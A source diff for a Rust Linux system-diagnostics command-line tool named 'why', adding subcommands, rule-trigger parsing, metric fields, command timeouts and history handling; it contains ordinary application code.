@@ -1,5 +1,8 @@
+// The metrics schema in schema.rs outgrows json!'s default macro recursion limit
+#![recursion_limit = "256"]
+
 use anyhow::{anyhow, Context, Result};
-use chrono::{DateTime, Utc};
+use chrono::{DateTime, NaiveDate, Utc};
 use clap::{Parser, Subcommand};
 use colored::*;
 use crossterm::{
@@ -7,12 +10,13 @@ use crossterm::{
     terminal::{disable_raw_mode, enable_raw_mode, EnterAlternateScreen, LeaveAlternateScreen},
     ExecutableCommand,
 };
-use dialoguer::{theme::ColorfulTheme, Confirm};
+use dialoguer::{theme::ColorfulTheme, Confirm, Select};
 use lazy_static::lazy_static;
 use ratatui::{
     backend::CrosstermBackend,
     layout::{Constraint, Direction, Layout},
-    widgets::{Block, Borders, Paragraph, Sparkline},
+    style::{Modifier, Style},
+    widgets::{Block, Borders, List, ListItem, ListState, Paragraph, Sparkline, Wrap},
     Frame, Terminal,
 };
 use regex::Regex;
@@ -20,32 +24,83 @@ use rusqlite::{params, Connection};
 use rust_i18n::t;
 use serde::Deserialize;
 use std::cmp::Ordering;
-use std::collections::HashSet;
+use std::collections::{BTreeMap, HashSet};
 use std::env;
 use std::fs;
-use std::io::stdout;
+use std::io::{stdout, Write};
 use std::path::{Path, PathBuf};
-use std::process::Command;
-use std::sync::OnceLock;
-use std::time::Duration;
+use std::process::{Command, Output, Stdio};
+use std::sync::atomic::{AtomicBool, Ordering as AtomicOrdering};
+use std::sync::{mpsc, Mutex, OnceLock};
+use std::time::{Duration, Instant};
 use sysinfo::System;
+use unicode_width::{UnicodeWidthChar, UnicodeWidthStr};
 
+mod acks;
+mod baseline;
+mod config;
 mod deps;
+mod diff;
+mod output;
+mod schema;
+mod theme;
+
+use output::OutputFormat;
 
 rust_i18n::i18n!("i18n", fallback = "en");
 
-const RULES_REMOTE_URL: &str = "https://raw.githubusercontent.com/tu/why/main/rules.toml";
+const RULES_REMOTE_URL: &str = "https://raw.githubusercontent.com/ajdramos/why/main/rules.toml";
+/// Overrides `RULES_REMOTE_URL` when `--rules-url` is not given
+const RULES_URL_ENV: &str = "WHY_RULES_URL";
+/// ETag/Last-Modified of the last rules download, in the cache directory
+const RULES_VALIDATORS_FILE: &str = "rules.toml.etag";
 const HISTORY_DIR: &str = ".cache/why";
 const HISTORY_FILE: &str = "history.db";
+/// Audit trail of applied auto-fixes, next to the history DB
+const FIXES_LOG_FILE: &str = "fixes.log";
+/// Lines `why fixes` shows, newest last
+const FIXES_SHOWN: usize = 20;
+/// How long a writer waits on a locked history DB (cron + interactive runs)
+const HISTORY_BUSY_TIMEOUT: Duration = Duration::from_secs(2);
+const HISTORY_OPEN_ATTEMPTS: u64 = 3;
+/// Per-run rule name sets kept for `--only-changed`
+const HISTORY_RUNS_KEPT: u32 = 50;
+/// Deleting at least this many findings is worth a VACUUM
+const HISTORY_VACUUM_ROWS: usize = 1000;
+/// Per-run metric rows kept for `why historical --metric`
+const HISTORY_METRICS_KEPT: u32 = 1000;
+/// Points in the `why historical --metric` sparkline (the `--watch` graphs keep 60 too)
+const HISTORY_METRIC_POINTS: u32 = 60;
+/// Daily battery capacity rows kept for `why battery --history` (about three years)
+const HISTORY_BATTERY_KEPT: u32 = 1000;
 
 // Performance and threshold constants
-const PERFORMANCE_TARGET_MS: u128 = 200;
+const PERFORMANCE_TARGET_MS: u64 = 200;
 const FP_PRECISION_THRESHOLD: f32 = 0.001;
 const BOOT_SLOW_SERVICE_WARNING: f32 = 5.0;
 const BOOT_SLOW_SERVICE_CRITICAL: f32 = 15.0;
 const RCA_EVENT_LIMIT: usize = 12;
+const IOWAIT_WARNING_PERCENT: f32 = 20.0;
+/// Swap fills long before RAM looks full, so these sit below the RAM ones
+const SWAP_WARNING_PERCENT: f32 = 25.0;
+const SWAP_CRITICAL_PERCENT: f32 = 60.0;
+/// Columns given to a process name in process tables
+const PROCESS_NAME_WIDTH: usize = 30;
+/// Default cap on external commands, see `command_timeout`
+const COMMAND_TIMEOUT_DEFAULT: Duration = Duration::from_secs(5);
+/// For commands that are slow by design (traceroute, gdb, package managers)
+const SLOW_COMMAND_TIMEOUT: Duration = Duration::from_secs(60);
+const COMMAND_POLL_INTERVAL: Duration = Duration::from_millis(10);
 
 static LOG_CACHE: OnceLock<Option<String>> = OnceLock::new();
+/// One `fwupdmgr get-updates` per run: the metric and `why update` share it
+static FIRMWARE_CACHE: OnceLock<Option<Vec<FirmwareUpdate>>> = OnceLock::new();
+/// Set by `--since-boot`: scope the shared log buffer to the current boot
+static LOG_SINCE_BOOT: AtomicBool = AtomicBool::new(false);
+/// While `Some`, `print_section` collects into it instead of printing (`--json`)
+static CAPTURED_SECTIONS: Mutex<Option<Vec<output::Section>>> = Mutex::new(None);
+/// While `Some`, `output_with_timeout` records every command it ran (`--probe`)
+static RAW_COMMANDS: Mutex<Option<Vec<RawCommand>>> = Mutex::new(None);
 
 lazy_static! {
     static ref NUM_REGEX: Regex = Regex::new(r"\d+\.?\d*").unwrap();
@@ -58,39 +113,208 @@ struct Cli {
     command: Option<Commands>,
     #[arg(long, help = t!("update_rules_help"))]
     update_rules: bool,
+    #[arg(long, value_name = "URL", requires = "update_rules", help = t!("rules_url_help"))]
+    rules_url: Option<String>,
     #[arg(long, help = t!("watch_help"))]
     watch: bool,
+    #[arg(long, requires = "watch", help = t!("once_help"))]
+    once: bool,
+    #[arg(long, value_name = "MS", requires = "watch", default_value = "200", value_parser = parse_watch_interval, help = t!("interval_help"))]
+    interval: Duration,
     #[arg(long, help = t!("snapshot_help"))]
     snapshot: bool,
     #[arg(long, help = t!("lang_help"), default_value = "en")]
     lang: String,
+    #[arg(long, value_enum, default_value_t = OutputFormat::Table, help = t!("format_help"))]
+    format: OutputFormat,
+    #[arg(long, conflicts_with = "format", help = t!("json_help"))]
+    json: bool,
+    #[arg(long, help = t!("schema_help"))]
+    schema: bool,
+    #[arg(long, help = t!("list_conditions_help"))]
+    list_conditions: bool,
+    #[arg(long, help = t!("exit_code_help"))]
+    exit_code: bool,
+    #[arg(long, value_name = "N", help = t!("explain_exit_code_help"))]
+    explain_exit_code: Option<i32>,
+    #[arg(long, value_name = "NAME", help = t!("probe_help"))]
+    probe: Option<String>,
+    #[arg(long, help = t!("clear_acks_help"))]
+    clear_acks: bool,
+    #[arg(long, help = t!("since_boot_help"))]
+    since_boot: bool,
+    #[arg(long, num_args = 2, value_names = ["A", "B"], help = t!("compare_hosts_help"))]
+    compare_hosts: Option<Vec<PathBuf>>,
+    #[arg(long, help = t!("only_changed_help"))]
+    only_changed: bool,
+    #[arg(long, help = t!("dump_metrics_help"))]
+    dump_metrics: bool,
+    #[arg(long, help = t!("no_history_help"))]
+    no_history: bool,
+    #[arg(long, help = t!("dry_run_help"))]
+    dry_run: bool,
+    #[arg(long, value_name = "DIR", help = t!("rules_dir_help"))]
+    rules_dir: Option<PathBuf>,
+    #[arg(long, help = t!("compact_help"))]
+    compact: bool,
+    #[arg(long, help = t!("machine_id_help"))]
+    machine_id: bool,
+    #[arg(long, requires = "machine_id", help = t!("redact_help"))]
+    redact: bool,
+    #[arg(long, value_name = "DIR", help = t!("output_dir_help"))]
+    output_dir: Option<PathBuf>,
+    #[arg(long, value_enum, help = t!("theme_help"))]
+    theme: Option<theme::Theme>,
+    #[arg(long, default_value_t = 1, value_parser = clap::value_parser!(u32).range(1..=60), help = t!("repeat_help"))]
+    repeat: u32,
+    #[arg(long, value_name = "MS", default_value_t = 1000, help = t!("delay_help"))]
+    delay: u64,
+    #[arg(long, value_name = "MS", help = t!("timeout_help"))]
+    timeout: Option<u64>,
+    #[arg(long, value_name = "N", default_value_t = 0, value_parser = clap::value_parser!(u8).range(0..=10), help = t!("min_severity_help"))]
+    min_severity: u8,
 }
 
 #[derive(Subcommand, Clone)]
 enum Commands {
     All,
     Cpu,
-    Mem,
+    Mem {
+        #[arg(long, help = t!("mem_bandwidth_help"))]
+        bandwidth: bool,
+    },
     Disk,
-    Battery,
-    Net,
-    Crash,
-    Historical,
+    Battery {
+        #[arg(long, help = t!("battery_history_help"))]
+        history: bool,
+    },
+    Net {
+        #[arg(long, value_name = "HOST", help = t!("net_trace_help"))]
+        trace: Option<String>,
+        #[arg(long, value_name = "NAME", help = t!("net_interface_help"))]
+        interface: Option<String>,
+        #[arg(long, help = t!("net_captive_help"))]
+        captive: bool,
+    },
+    Crash {
+        #[arg(long, value_name = "PID|PATH", help = t!("crash_core_help"))]
+        core: Option<String>,
+    },
+    Coredump,
+    Fixes,
+    Diff {
+        #[arg(help = t!("diff_before_help"))]
+        before: PathBuf,
+        #[arg(help = t!("diff_after_help"))]
+        after: PathBuf,
+    },
+    Historical {
+        #[arg(long, help = t!("rule_stats_help"))]
+        rule_stats: bool,
+        #[arg(long, value_enum, conflicts_with = "rule_stats", help = t!("history_metric_help"))]
+        metric: Option<HistoryMetric>,
+        #[arg(long, value_name = "DAYS", conflicts_with_all = ["rule_stats", "metric"], help = t!("history_prune_help"))]
+        prune: Option<u32>,
+    },
     Wifi,
     Bluetooth,
     Fan,
     Hot,
     Update,
-    Boot,
+    Boot {
+        #[arg(long, help = t!("boot_previous_help"))]
+        previous: bool,
+    },
     BootCritical,
-    Gpu,
-    Gaming,
+    Gpu {
+        #[arg(long, help = t!("gpu_vulkan_help"))]
+        vulkan: bool,
+        #[arg(long, help = t!("gpu_encoder_help"))]
+        encoder: bool,
+        #[arg(long, help = t!("gpu_clocks_help"))]
+        clocks: bool,
+        #[arg(long, help = t!("gpu_save_baseline_help"))]
+        save_baseline: bool,
+        #[arg(long, conflicts_with = "save_baseline", help = t!("gpu_compare_help"))]
+        compare: bool,
+    },
+    Gaming {
+        #[arg(long, help = t!("gaming_launch_options_help"))]
+        launch_options: bool,
+    },
     Slow,
-    Storage,
-    Security,
+    Io,
+    Storage {
+        #[arg(long, help = t!("storage_smart_full_help"))]
+        smart_full: bool,
+    },
+    Security {
+        #[arg(long, help = t!("security_lynis_lite_help"))]
+        lynis_lite: bool,
+    },
     Rca,
+    Oom,
     KubeNode,
+    Services,
+    Lib {
+        #[arg(help = t!("lib_binary_help"))]
+        binary: String,
+    },
+    #[command(about = t!("metrics_about"), long_about = t!("metrics_long_about"))]
+    Metrics,
     CheckDeps,
+    Ack {
+        #[arg(help = t!("ack_rule_help"))]
+        rule: String,
+    },
+    ConfigCheck {
+        #[arg(long, help = t!("config_check_lint_help"))]
+        lint: bool,
+    },
+    Doctor {
+        #[arg(long, value_enum, help = t!("doctor_symptom_help"))]
+        symptom: Option<Symptom>,
+        #[arg(long, help = t!("doctor_after_update_help"))]
+        after_update: bool,
+    },
+}
+
+/// Metric columns of the history DB, for `why historical --metric`
+#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
+enum HistoryMetric {
+    Cpu,
+    Mem,
+    Disk,
+    Temperature,
+    GpuTemp,
+}
+
+impl HistoryMetric {
+    fn column(self) -> &'static str {
+        match self {
+            HistoryMetric::Cpu => "cpu",
+            HistoryMetric::Mem => "mem",
+            HistoryMetric::Disk => "disk",
+            HistoryMetric::Temperature => "temperature",
+            HistoryMetric::GpuTemp => "gpu_temp",
+        }
+    }
+
+    fn unit(self) -> &'static str {
+        match self {
+            HistoryMetric::Temperature | HistoryMetric::GpuTemp => "°C",
+            _ => "%",
+        }
+    }
+}
+
+/// What `why doctor` asks the user first
+#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
+enum Symptom {
+    Slow,
+    Hot,
+    Crashing,
+    Offline,
 }
 
 #[derive(Deserialize, Clone)]
@@ -101,6 +325,33 @@ struct Rule {
     solution: String,
     severity: u8,
     auto_fix: Option<String>,
+    /// `false` keeps transient findings out of the history DB; they are
+    /// still evaluated and shown
+    #[serde(default = "default_rule_history")]
+    history: bool,
+    /// Whether the solution is something to do rather than to know; unset
+    /// means "has an auto_fix"
+    actionable: Option<bool>,
+}
+
+impl Rule {
+    fn is_actionable(&self) -> bool {
+        self.actionable.unwrap_or(self.auto_fix.is_some())
+    }
+}
+
+/// Rules with neither an `auto_fix` nor an `actionable` flag: they default to
+/// informational, which a manual fix usually is not
+fn unclassified_rules(rules: &[Rule]) -> Vec<&str> {
+    rules
+        .iter()
+        .filter(|rule| rule.auto_fix.is_none() && rule.actionable.is_none())
+        .map(|rule| rule.name.as_str())
+        .collect()
+}
+
+fn default_rule_history() -> bool {
+    true
 }
 
 #[derive(Deserialize)]
@@ -108,14 +359,33 @@ struct RulesFile {
     rule: Vec<Rule>,
 }
 
-#[derive(Clone, serde::Serialize)]
+#[derive(Clone, serde::Serialize, Deserialize)]
 struct Finding {
+    /// Stable across runs for the same logical issue, see `finding_id`
+    id: String,
     severity: String,
     severity_value: u8,
     message: String,
     solution: String,
     auto_fix: Option<String>,
     rule_name: String,
+    /// Something the user can do about it, see `Rule::is_actionable`
+    actionable: bool,
+    /// What the trigger's conditions are about, for `why doctor`
+    #[serde(skip)]
+    categories: Vec<FindingCategory>,
+}
+
+/// Area a condition is about; `why doctor` concludes only from findings in
+/// the areas its route covers
+#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
+enum FindingCategory {
+    Performance,
+    Storage,
+    Thermal,
+    Stability,
+    Network,
+    Updates,
 }
 
 #[derive(Debug, Clone)]
@@ -123,10 +393,21 @@ enum Condition {
     CpuGreater(f32),
     MemGreater(f32),
     TotalRamLess(u64),
+    CpuLess(f32),
+    MemLess(f32),
+    TotalRamGreater(u64),
+    SwapGreater(f32),
+    LoadAvgGreater(f32),
     ProcessContains(String),
+    /// Lowercased name substring and share of total RAM
+    ProcessMemPercentGreater {
+        name: String,
+        percent: f32,
+    },
     ProcessCountGreater(usize),
     LogContains(Regex),
     DiskFullGreater(f32),
+    InodeFullGreater(f32),
     SnapLoopsGreater(u32),
     FlatpakUnusedGreater(u32),
     BatteryDrainGreater(f32),
@@ -146,19 +427,91 @@ enum Condition {
     GpuTempLess(f32),
     GpuUtilGreater(f32),
     GpuMemUtilGreater(f32),
+    GpuMemUsedGreater(f32),
     PrimeOffloadEquals(String),
     GamescopeRunning(bool),
     SteamRunning(bool),
     ProtonFailures(bool),
     VulkanLoaderMissing(bool),
+    ConntrackUsageGreater(f32),
+    TmpfsFullGreater(f32),
+    VulkanDeviceCountLess(u32),
+    IowaitGreater(f32),
+    StaleMount(bool),
+    FirmwareUpdatesGreater(u32),
+    CoredumpSizeGreater(f32),
+    HwEncoderMissing(bool),
+    UnitRestartsGreater(u32),
+    GpuDriverMismatch(bool),
+    GpuUnderclocked(bool),
+    /// Environment of the `why` process itself, not of other programs
+    EnvEquals {
+        var: String,
+        value: String,
+    },
+    EnvSet {
+        var: String,
+        set: bool,
+    },
+    /// `!` prefix: holds when the inner condition does not
+    Not(Box<Condition>),
 }
 
-#[derive(serde::Serialize)]
+/// Parsed rule trigger: `&&` binds tighter than `||`, parentheses group
+#[derive(Debug, Clone)]
+enum Trigger {
+    Condition(Condition),
+    /// Every child holds; empty when no condition parsed (always holds)
+    All(Vec<Trigger>),
+    Any(Vec<Trigger>),
+}
+
+impl Trigger {
+    fn all(mut children: Vec<Trigger>) -> Trigger {
+        if children.len() == 1 {
+            children.remove(0)
+        } else {
+            Trigger::All(children)
+        }
+    }
+
+    fn any(mut children: Vec<Trigger>) -> Trigger {
+        if children.len() == 1 {
+            children.remove(0)
+        } else {
+            Trigger::Any(children)
+        }
+    }
+
+    /// Leaf conditions, left to right
+    fn conditions(&self) -> Vec<&Condition> {
+        match self {
+            Trigger::Condition(condition) => vec![condition],
+            Trigger::All(children) | Trigger::Any(children) => {
+                children.iter().flat_map(Trigger::conditions).collect()
+            }
+        }
+    }
+}
+
+/// Older snapshots lack newer fields; `why diff` reads them as unset
+#[derive(Clone, Default, serde::Serialize, Deserialize)]
+#[serde(default)]
 struct Metrics {
-    cpu_usage: f32,
+    /// None unless the CPU was sampled over a full window (see `resample_cpu`)
+    cpu_usage: Option<f32>,
     mem_usage: f32,
     total_ram_mb: u64,
+    /// 0 when no swap is configured
+    swap_usage_percent: f32,
+    swap_total_mb: u64,
+    /// `/proc/loadavg` over 1, 5 and 15 minutes; None where it does not exist
+    load_avg_1: Option<f32>,
+    load_avg_5: Option<f32>,
+    load_avg_15: Option<f32>,
     disk_full_percent: f32,
+    /// Root filesystem inodes in use; None where df reports none (btrfs)
+    inode_full_percent: Option<f32>,
     filesystem: Option<String>,
     snap_loops: Option<u32>,
     flatpak_unused: Option<u32>,
@@ -169,18 +522,39 @@ struct Metrics {
     temperature_c: Option<f32>,
     wayland_vs_x11: Option<String>,
     docker_dangling: Option<u32>,
+    /// The `max_processes` heaviest processes, heaviest first; `process=`
+    /// rules only see these
     process_names: Vec<String>,
+    /// Every process, not just the inspected ones
     process_count: usize,
+    /// Resident memory in MB per lowercased name of the inspected processes
+    process_memory_mb: BTreeMap<String, u64>,
     pipewire_latency_ms: Option<f32>,
     firefox_soft_render: Option<bool>,
     zfs_arc_full_percent: Option<f32>,
     luks_device_count: Option<u32>,
     gpu: Option<GpuDetails>,
-    prime_offload_enabled: bool,
-    gamescope_running: bool,
-    steam_running: bool,
-    proton_failure_detected: bool,
-    vulkan_loader_missing: bool,
+    prime_offload_enabled: Option<bool>,
+    gamescope_running: Option<bool>,
+    steam_running: Option<bool>,
+    proton_failure_detected: Option<bool>,
+    vulkan_loader_missing: Option<bool>,
+    conntrack_usage_percent: Option<f32>,
+    tmpfs_full_percent: Option<f32>,
+    vulkan_device_count: Option<u32>,
+    iowait_percent: Option<f32>,
+    /// None when the storage probe did not run
+    stale_mounts: Option<Vec<String>>,
+    firmware_updates: Option<u32>,
+    coredump_size_mb: Option<f32>,
+    hw_encoder_missing: Option<bool>,
+    unit_restarts: Option<u32>,
+    /// Units `systemctl --failed` lists; None without systemd
+    failed_units: Option<u32>,
+    gpu_driver_mismatch: Option<bool>,
+    /// A busy GPU running well below its max core clock; None when clocks or
+    /// load could not be read
+    gpu_underclocked: Option<bool>,
 }
 
 #[derive(Clone, Debug)]
@@ -190,7 +564,7 @@ struct WifiNetwork {
     signal: Option<f32>,
 }
 
-#[derive(Clone, Default, serde::Serialize)]
+#[derive(Clone, Default, serde::Serialize, Deserialize)]
 struct GpuDetails {
     vendor: String,
     model: Option<String>,
@@ -202,13 +576,16 @@ struct GpuDetails {
     fan_speed_percent: Option<f32>,
 }
 
-#[derive(serde::Serialize)]
+#[derive(serde::Serialize, Deserialize)]
 struct SnapshotData {
+    schema_version: u32,
     timestamp: String,
     hostname: String,
     kernel: String,
     distro: String,
     uptime_seconds: u64,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    machine_id: Option<String>,
     metrics: Metrics,
     findings: Vec<Finding>,
     recent_dmesg: Option<Vec<String>>,
@@ -230,55 +607,300 @@ impl GpuDetails {
 /// Helper to run a command with C locale (for parsing numbers with . instead of ,)
 /// Critical for systems in PT/DE/FR where decimals use comma
 fn run_cmd_c_locale(cmd: &str, args: &[&str]) -> Option<String> {
-    Command::new(cmd)
-        .args(args)
-        .env("LC_ALL", "C") // Force C locale to get . instead of , for decimals
-        .env("LANG", "C")
-        .output()
+    run_cmd_with_timeout(cmd, args, command_timeout())
+}
+
+/// `run_cmd_c_locale` with an explicit cap; `None` if the command fails or
+/// is still running after `timeout` (it is killed)
+fn run_cmd_with_timeout(cmd: &str, args: &[&str], timeout: Duration) -> Option<String> {
+    output_with_timeout(
+        Command::new(cmd)
+            .args(args)
+            .env("LC_ALL", "C") // Force C locale to get . instead of , for decimals
+            .env("LANG", "C"),
+        timeout,
+    )
+    .ok()
+    .filter(|out| out.status.success())
+    .map(|out| String::from_utf8_lossy(&out.stdout).to_string())
+}
+
+/// Cap on one external command: `WHY_CMD_TIMEOUT_MS`, else 5 s. A wedged
+/// tool (nvidia-smi on a crashed driver, smartctl on a dying disk) would
+/// otherwise hang the whole run.
+fn command_timeout() -> Duration {
+    env::var("WHY_CMD_TIMEOUT_MS")
         .ok()
-        .filter(|out| out.status.success())
-        .map(|out| String::from_utf8_lossy(&out.stdout).to_string())
+        .and_then(|ms| ms.parse().ok())
+        .map(Duration::from_millis)
+        .unwrap_or(COMMAND_TIMEOUT_DEFAULT)
+}
+
+/// One external command as run by a probe, for `--probe`
+struct RawCommand {
+    command: String,
+    /// `exit 0`, `timed out`, ...
+    outcome: String,
+    stdout: String,
+    stderr: String,
+}
+
+/// `Command::output` that kills the child once `timeout` has passed and
+/// reports `ErrorKind::TimedOut`. Stdin is closed so nothing waits on input.
+fn output_with_timeout(command: &mut Command, timeout: Duration) -> std::io::Result<Output> {
+    let result = spawn_with_timeout(command, timeout);
+    if let Some(raw) = RAW_COMMANDS.lock().unwrap().as_mut() {
+        let line = std::iter::once(command.get_program())
+            .chain(command.get_args())
+            .map(|part| part.to_string_lossy())
+            .collect::<Vec<_>>()
+            .join(" ");
+        let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).to_string();
+        raw.push(match &result {
+            Ok(out) => RawCommand {
+                command: line,
+                outcome: out.status.to_string(),
+                stdout: text(&out.stdout),
+                stderr: text(&out.stderr),
+            },
+            Err(err) => RawCommand {
+                command: line,
+                outcome: err.to_string(),
+                stdout: String::new(),
+                stderr: String::new(),
+            },
+        });
+    }
+    result
+}
+
+/// The child leads its own process group, so a timeout also kills whatever it
+/// started (a shell's pipeline, a wrapper's worker) and the pipes close
+fn spawn_with_timeout(command: &mut Command, timeout: Duration) -> std::io::Result<Output> {
+    use std::os::unix::process::CommandExt;
+    let mut child = command
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .process_group(0)
+        .spawn()?;
+    // Drain both pipes while waiting, a child blocked on a full pipe never exits
+    let stdout = drain_pipe(child.stdout.take());
+    let stderr = drain_pipe(child.stderr.take());
+    let deadline = Instant::now() + timeout;
+    let status = loop {
+        if let Some(status) = child.try_wait()? {
+            break status;
+        }
+        if Instant::now() >= deadline {
+            kill_process_group(&mut child);
+            // A process stuck in D state outlives SIGKILL; reap it off this thread
+            std::thread::spawn(move || child.wait());
+            return Err(std::io::Error::new(
+                std::io::ErrorKind::TimedOut,
+                format!("command timed out after {}ms", timeout.as_millis()),
+            ));
+        }
+        std::thread::sleep(COMMAND_POLL_INTERVAL);
+    };
+    Ok(Output {
+        status,
+        stdout: stdout.join().unwrap_or_default(),
+        stderr: stderr.join().unwrap_or_default(),
+    })
+}
+
+fn kill_process_group(child: &mut std::process::Child) {
+    #[cfg(target_os = "linux")]
+    // SAFETY: kill(2) only sends a signal; a negative pid targets the group
+    // `process_group(0)` created for this child
+    unsafe {
+        libc::kill(-(child.id() as libc::pid_t), libc::SIGKILL);
+    }
+    let _ = child.kill();
+}
+
+fn drain_pipe<R: std::io::Read + Send + 'static>(
+    pipe: Option<R>,
+) -> std::thread::JoinHandle<Vec<u8>> {
+    std::thread::spawn(move || {
+        let mut buffer = Vec::new();
+        if let Some(mut pipe) = pipe {
+            let _ = pipe.read_to_end(&mut buffer);
+        }
+        buffer
+    })
 }
 
 /// Helper to run a command and check if it succeeded
 fn run_cmd_status(cmd: &str, args: &[&str]) -> bool {
-    Command::new(cmd)
-        .args(args)
-        .status()
-        .map(|status| status.success())
-        .unwrap_or(false)
+    output_with_timeout(Command::new(cmd).args(args), command_timeout())
+        .is_ok_and(|out| out.status.success())
 }
 
 fn main() -> Result<()> {
     let start_time = std::time::Instant::now();
-    let cli = Cli::parse();
+    let mut cli = Cli::parse();
+    if cli.json {
+        cli.format = OutputFormat::Json;
+        colored::control::set_override(false);
+    }
     rust_i18n::set_locale(&cli.lang);
+    LOG_SINCE_BOOT.store(cli.since_boot, AtomicOrdering::Relaxed);
+    theme::set(cli.theme.or(config::config().theme).unwrap_or_default());
+
+    if cli.schema {
+        println!("{}", output::to_json(&schema::json_schema(), cli.compact)?);
+        return Ok(());
+    }
+
+    if cli.list_conditions {
+        print!("{}", condition_listing());
+        return Ok(());
+    }
+
+    if let Some(code) = cli.explain_exit_code {
+        println!("{}", explain_exit_code(code)?);
+        return Ok(());
+    }
+
+    if let Some(name) = &cli.probe {
+        let report = debug_probe(name, Probe::measure).ok_or_else(|| {
+            anyhow!(t!("probe_unknown")
+                .replace("{name}", name)
+                .replace("{names}", &probe_names().join(", ")))
+        })?;
+        show_probe_report(name, &report);
+        return Ok(());
+    }
+
+    if let Some(paths) = &cli.compare_hosts {
+        return compare_hosts(&paths[0], &paths[1]);
+    }
+
+    if let Some(Commands::Diff { before, after }) = &cli.command {
+        return why_diff(before, after);
+    }
 
     if cli.watch {
-        return tui_mode();
+        return tui_mode(cli.rules_dir.as_deref(), cli.once, cli.interval);
     }
 
     let mut sys = System::new_all();
-    sys.refresh_all();
 
     if cli.update_rules {
-        update_rules_from_remote()?;
+        update_rules_from_remote(&rules_url(
+            cli.rules_url.as_deref(),
+            env::var(RULES_URL_ENV).ok().as_deref(),
+        )?)?;
     }
 
-    let rules = load_rules()?;
-    let parsed_rules: Vec<(Vec<Condition>, Rule)> = rules
+    let rules = load_all_rules(cli.rules_dir.as_deref())?;
+    // Only inspects the rules file, before parsing warns about the same tokens
+    if let Some(Commands::ConfigCheck { lint }) = cli.command {
+        return config_check(&rules, lint);
+    }
+    let parsed_rules: Vec<(Trigger, Rule)> = rules
         .iter()
         .map(|rule| (parse_trigger(&rule.trigger), rule.clone()))
         .collect();
 
     let command = cli.command.unwrap_or(Commands::All);
+    if !cli.snapshot {
+        check_format(cli.format, &command)?;
+    }
 
     // Collect GPU for snapshot (complete system state) or GPU-relevant commands
-    let needs_gpu =
-        cli.snapshot || matches!(command, Commands::All | Commands::Gpu | Commands::Gaming);
-    let mut metrics = Metrics::gather(&sys);
+    let needs_gpu = cli.snapshot
+        || matches!(
+            command,
+            Commands::All
+                | Commands::Gpu { .. }
+                | Commands::Gaming { .. }
+                | Commands::Metrics
+                | Commands::Doctor { .. }
+        );
+    // Snapshots and --only-changed compare against full runs
+    let probes = if cli.snapshot || cli.only_changed {
+        ALL_PROBES
+    } else {
+        probes_for(&command)
+    };
+    let deadline = cli.timeout.map(|ms| start_time + Duration::from_millis(ms));
+    // Under --timeout the journal is read alongside the probes and shares
+    // their deadline, instead of after them with no limit
+    let pending_logs = deadline.map(|_| spawn_job(fetch_filtered_logs));
+    // Read before the CPU window so iowait covers the same fixed interval
+    let stat_before = read_cpu_times();
+    let cpu_sampled = resample_cpu(
+        probes,
+        || {
+            sys.refresh_cpu_usage();
+            if ranks_processes_by_cpu(&command) {
+                sys.refresh_processes();
+            }
+        },
+        std::thread::sleep,
+    );
+    let (mut metrics, mut timed_out) = gather_samples(
+        &mut sys,
+        probes,
+        cli.repeat,
+        Duration::from_millis(cli.delay),
+        deadline,
+        stat_before.filter(|_| cpu_sampled),
+        cpu_sampled,
+    );
+    let mut run_section = |label: &'static str, update: fn() -> ProbeUpdate| {
+        let finished = match deadline {
+            Some(deadline) => run_until(deadline, update),
+            None => Some(update()),
+        };
+        match finished {
+            Some(apply) => apply(&mut metrics),
+            None => timed_out.push(label),
+        }
+    };
     if needs_gpu {
-        metrics = metrics.with_gpu();
+        let full_gpu = cli.snapshot
+            || matches!(
+                command,
+                Commands::Gpu { vulkan: true, .. } | Commands::Gpu { encoder: true, .. }
+            );
+        run_section(
+            "gpu",
+            if full_gpu {
+                gpu_update_full
+            } else {
+                gpu_update
+            },
+        );
+    }
+    if cli.snapshot || matches!(command, Commands::Update) {
+        run_section("firmware", firmware_update);
+    }
+    if let (Some(pending), Some(deadline)) = (pending_logs, deadline) {
+        let logs = pending.recv_timeout(deadline.saturating_duration_since(Instant::now()));
+        if logs.is_err() {
+            timed_out.push("logs");
+        }
+        // Rules and handlers read the cache; a late journal counts as no logs
+        let _ = LOG_CACHE.set(logs.ok().flatten());
+    }
+    if !timed_out.is_empty() {
+        eprintln!(
+            "{}",
+            t!("timeout_partial")
+                .replace("{ms}", &cli.timeout.unwrap_or_default().to_string())
+                .replace("{sections}", &timed_out.join(", "))
+                .yellow()
+        );
+    }
+
+    // Raw metrics only: no rules, history or auto-fix
+    if cli.dump_metrics {
+        println!("{}", output::to_json(&metrics, cli.compact)?);
+        return Ok(());
     }
 
     let mut findings = evaluate_rules(&metrics, &parsed_rules);
@@ -286,60 +908,162 @@ fn main() -> Result<()> {
     correlate_findings(&mut findings);
 
     // Filter gaming rules unless explicitly running 'why gaming'
-    if !matches!(command, Commands::Gaming) {
+    if !matches!(command, Commands::Gaming { .. }) {
         findings.retain(|f| !f.rule_name.starts_with("gaming_"));
     }
 
-    log_to_history(&findings)?;
+    let ack_path = acks::acks_path();
+    let mut ack_store = acks::load(&ack_path);
+    if cli.clear_acks {
+        ack_store.clear();
+        acks::save(&ack_path, &ack_store)?;
+        println!("{}", t!("acks_cleared").to_string().green());
+    }
+    if let Commands::Ack { rule } = &command {
+        return ack_rule(rule, &parsed_rules, &metrics, &mut ack_store, &ack_path);
+    }
+    apply_acks(&mut findings, &ack_store, &parsed_rules, &metrics);
+
+    // Scrape endpoint for cron/node_exporter: no history, fixes or --exit-code
+    if matches!(command, Commands::Metrics) {
+        retain_min_severity(&mut findings, cli.min_severity);
+        print!(
+            "{}",
+            output::render(
+                OutputFormat::Prometheus,
+                &findings,
+                &metrics,
+                &[],
+                None,
+                false
+            )?
+        );
+        return Ok(());
+    }
+
+    // Read the previous run before this one is logged over it
+    let previous_ids = if cli.only_changed {
+        previous_run_ids()?
+    } else {
+        None
+    };
+
+    if history_enabled(
+        cli.no_history,
+        cli.format == OutputFormat::Json,
+        config::config().history,
+    ) {
+        // Only a run that gathered everything can be --only-changed's baseline
+        let complete = probes == ALL_PROBES && timed_out.is_empty();
+        log_to_history(
+            &history_db_path(),
+            &findings,
+            &parsed_rules,
+            &metrics,
+            complete,
+        )?;
+    }
+
